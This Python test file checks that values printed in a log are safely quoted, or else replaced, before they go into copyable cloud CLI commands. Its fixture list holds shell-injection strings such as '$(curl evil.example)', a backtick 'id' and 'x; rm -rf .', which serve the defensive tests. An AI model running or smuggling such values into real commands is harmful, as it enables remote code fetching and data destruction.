"""Values that a log prints, where they stand in a command for copying: `knowledge.printed_values`."""

from __future__ import annotations

import shlex

import pytest

from knowledge.gcp_fixes import mapping_option
from knowledge.printed_values import plain, word

ODD = (
    "$(curl evil.example)",
    "`id`",
    "x; rm -rf .",
    "x && y",
    "x | y",
    "x > y",
    'x" y',
    "x' y",
    "x\ny",
    "-rf",
    "--query=x",
    "\\x",
    "x" * 401,
    "",
)


@pytest.mark.parametrize("value", ODD)
def test_what_a_shell_would_read_as_more_than_a_value_is_no_part_of_a_command(value: str) -> None:
    assert word(value, "ID") == "ID"
    assert plain(value, "ID") == "ID"


@pytest.mark.parametrize(
    "value",
    [
        "11112222-3333-4444-8555-666677778888",
        "deploy@acme-prod.iam.gserviceaccount.com",
        "https://api.bitbucket.org/2.0/workspaces/acme/pipelines-config/identity/oidc",
        "/subscriptions/3333/resourceGroups/the site",
        "{3b1a7f00-1111-4222-8333-944455566677}",
        "{a,b}",
        "prüfung",
        "role+name=x,y.z",
    ],
)
def test_a_value_is_one_word_of_the_command_whatever_it_holds(value: str) -> None:
    assert shlex.split(f"az ad app show --id {word(value, 'ID')} --query x") == [
        *("az", "ad", "app", "show", "--id"),
        value,
        *("--query", "x"),
    ]


def test_a_mapping_with_commas_in_an_expression_stays_one_list_of_pairs() -> None:
    plainly = mapping_option({"google.subject": "assertion.sub", "attribute.a": "assertion.b"})
    parted = mapping_option({"google.subject": "assertion.sub", "attribute.a": "x.extract('{y}', 'z')"})

    assert shlex.split(plainly) == [
        "--attribute-mapping=google.subject=assertion.sub,attribute.a=assertion.b"
    ]
    assert shlex.split(parted) == [
        "--attribute-mapping=^;^google.subject=assertion.sub;attribute.a=x.extract('{y}', 'z')"
    ]
